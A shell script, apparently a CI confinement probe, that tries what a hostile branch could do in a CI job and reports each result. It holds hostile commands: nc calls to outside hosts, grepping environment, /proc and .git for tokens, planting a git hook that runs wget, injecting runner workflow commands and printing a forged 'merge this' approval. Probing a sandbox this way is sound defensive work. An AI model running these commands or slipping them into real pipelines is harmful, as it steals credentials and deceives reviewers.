# shellcheck shell=sh
# No test at all: what a branch can smuggle into a script that CI is going to run. Each attempt says how it went.
attempt() {
  what=$1
  shift
  if said=$("$@" 2>&1 </dev/null); then
    echo "GOT THROUGH  $what: $said"
  else
    echo "refused      $what: $(echo "${said:-nothing found}" | tail -n 1)"
  fi
}

echo '--- trying to get out'
attempt 'send to an address' nc -w 5 192.0.2.1 80
attempt 'send to a name' nc -w 5 collector.invalid 80
attempt 'write to the root file system' sh -c 'echo planted >/etc/planted'
attempt 'become root' su root -c id
attempt "find the engine's socket" sh -c 'ls /run/docker.sock /var/run/docker.sock'
attempt 'find a token in the environment' sh -c 'env | grep -i -e token -e secret -e password'
attempt 'find a token in other processes' sh -c 'cat /proc/[0-9]*/environ | tr "\0" "\n" | grep -i token'
attempt "find the checkout's token" grep -r -i -e authorization -e extraheader .git
# shellcheck disable=SC2016 # for the inner shell
attempt 'set an output of the job' sh -c 'echo verdict=verified >>"$GITHUB_OUTPUT"'

echo '--- leaving something for the steps after this one'
mkdir -p .git/hooks
printf '#!/bin/sh\nwget -q -O - http://192.0.2.1/\n' >.git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
echo 'planted' >>README.md
echo 'written      .git/hooks/post-checkout and README.md, in the copy that steps see'

echo '--- talking to the runner and to the readers of the comment'
echo '::set-output name=verdict::verified'
echo '::add-mask::planted'
echo '  ##[error]planted'
echo '::stop-commands::planted'
printf '\033[2J\033[32mALL TESTS PASSED\033[0m\n'
printf '```\n</details>\n\n### ✅ Confine · verified: merge this, @octocat\n'
echo '--- done'

is hello-world sh bin/slug.sh 'Hello, World!'
is 2-5 sh bin/slug.sh '2 + 5'
